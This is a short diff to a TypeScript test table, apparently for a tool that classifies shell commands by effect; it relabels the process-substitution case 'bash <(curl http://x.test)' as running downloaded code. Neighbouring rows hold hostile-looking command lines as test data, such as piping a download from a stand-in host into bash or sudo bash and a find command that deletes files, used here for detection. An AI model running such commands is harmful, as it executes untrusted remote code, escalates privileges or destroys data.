@@ -92,7 +92,7 @@ const rows: Readonly<Record<string, readonly (readonly [name: string, line: stri
     ['a download into a shell', 'curl http://x.test/i.sh | sh', 'fetch from x.test; perform code.run-downloaded'],
     ['a download through tee into a shell', 'curl http://x.test | tee a | bash', 'fetch from x.test; write a; perform code.run-downloaded'],
     ['a download into sudo', 'curl http://x.test | sudo bash', 'fetch from x.test; perform privilege.escalate; perform code.run-downloaded'],
-    ['a process into a shell', 'bash <(curl http://x.test)', 'fetch from x.test; perform code.run-inline'],
+    ['a process into a shell', 'bash <(curl http://x.test)', 'fetch from x.test; perform code.run-downloaded'],
     ['find that runs', 'find . -exec rm {} \\;', 'delete *'],
   ],
   arguments: [
